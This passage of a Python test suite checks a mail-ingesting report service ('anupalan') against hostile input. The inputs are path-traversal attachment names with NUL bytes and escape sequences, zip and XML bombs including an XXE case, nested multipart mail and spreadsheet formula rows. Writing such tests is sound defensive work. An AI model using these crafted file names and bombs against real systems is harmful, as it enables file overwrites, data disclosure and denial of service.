        f'attachment; filename="C:\\\\Windows\\\\{token}-d.xlsx"',
        f"attachment; filename*=utf-8''..%2F..%2F%00{token}%1B%5B2J-e.xlsx",
        'attachment; filename=".."',
        f"attachment; filename*=utf-8''%2Ftmp%2F{token}-f%2F..",
    ]
    raws = [named(report_mail(), n.encode()) for n in names]
    raws.append(
        report_mail(
            attachments=[
                (
                    "reports.zip",
                    zipped(
                        (f"../../{token}-g.csv", CSV_REPORT), (f"/tmp/{token}-h.csv", CSV_REPORT)
                    ),
                )
            ]
        )
    )
    results = cycle(zone, app, "path traversal", *raws).ingested
    assert [r.outcome for r in results] == ["accepted"] * len(raws)
    for raw in raws:
        for attachment in parse_message(raw).attachments:
            assert not re.search(r"[/\\\x00-\x1f]", attachment.file_name)
            assert attachment.file_name not in ("", ".", "..")
    # No file carries the names given, wherever a path in them could have led (relative to
    # the zone, the archive or the working directory, or absolute); the archive holds each
    # message under its hash.
    bases = {*zone.root.parents, *Path.cwd().parents, Path.cwd(), Path("/tmp")}
    for base in bases:
        assert not list(base.glob(f"*{token}*")), base
    assert not list(zone.root.parent.rglob(f"*{token}*"))
    for path in (zone.root / "var").rglob("*"):
        if path.is_file() and "archive" in path.parts:
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            assert path.relative_to(zone.root / "var" / "archive") == Path(
                digest[:2], f"{digest}.eml"
            )
    archived = {m.archive_path for m in app.store.messages()}
    assert all(Path(p).is_relative_to(zone.root / "var" / "archive") for p in archived)


# --- everything at once, and then a good report ------------------------------------------------


def test_a_mailbox_full_of_hostile_mail_does_not_stop_the_service(
    zone: Zone, app: App, tmp_path: Path
) -> None:
    hostile = [
        report_mail(attachments=[("bomb.zip", ratio_bomb())]),
        report_mail(attachments=[("nested.zip", nested_zip(10))]),
        *(report_mail(attachments=[(n, d)]) for n, d in xml_bombs(tmp_path / "x").items()),
        nested_multipart(3000),
        nested_forwards(200),
        *FORGERIES.values(),
        report_mail(b'"' * 50_000),
        b"\x00\xff\xfe garbage that is not a mail at all \x00" * 1000,
        b"",
    ]
    report = cycle(zone, app, "all at once", *hostile)
    assert {r.outcome for r in report.ingested} <= {"needs_review", "ignored", "duplicate"}
    assert counted(app) == []
    [good] = cycle(zone, app, "", report_mail(message_id="<good@example.gov.in>")).ingested
    assert (good.outcome, good.unit_id, good.rows) == ("accepted", "chennai-north", 3)


# --- anupalan inspect --------------------------------------------------------------------------


def inspect_files(tmp_path: Path) -> dict[str, bytes]:
    return {
        "ratio.zip": ratio_bomb(200),
        "nested.zip": nested_zip(20),
        "many.zip": many_members(),
        "lying.zip": lying_zip(),
        **{
            k: v
            for k, v in xml_bombs(tmp_path / "secret.txt").items()
            if "laughs" in k or "xxe" in k
        },
        "huge.csv": CSV_REPORT + b" " * (26 * 1024 * 1024),
    }


def test_inspect_refuses_hostile_files_with_a_reason(tmp_path: Path) -> None:
    for name, data in inspect_files(tmp_path).items():
        path = tmp_path / name
        path.write_bytes(data)
        TALLY.tried["inspect"] += 1
        shown = anupalan("inspect", path, "--json")
        assert shown.returncode == 0, shown.stderr
        document = json.loads(shown.stdout)
        assert document["readable"] is False, name
        assert document["reason"], name
    text = anupalan("inspect", tmp_path / "ratio.zip")
    assert "Not readable: the file is too large once unpacked" in text.stdout


def test_inspect_shows_formulas_and_control_characters_as_harmless_text(tmp_path: Path) -> None:
    path = tmp_path / "formulas.csv"
    path.write_bytes(csv_bytes(formula_rows()))
    TALLY.tried["inspect"] += 1
    shown = anupalan("inspect", path, "--json")
    assert shown.returncode == 0, shown.stderr
    names = [row["name"] for row in json.loads(shown.stdout)["rows"]]
    assert names[:2] == [f"{FORMULAS[0]} name", f"{FORMULAS[1]} name"]
    text = anupalan("inspect", path).stdout
    assert "\x1b" not in text and "\x07" not in text
    assert "R. Selvam" in text
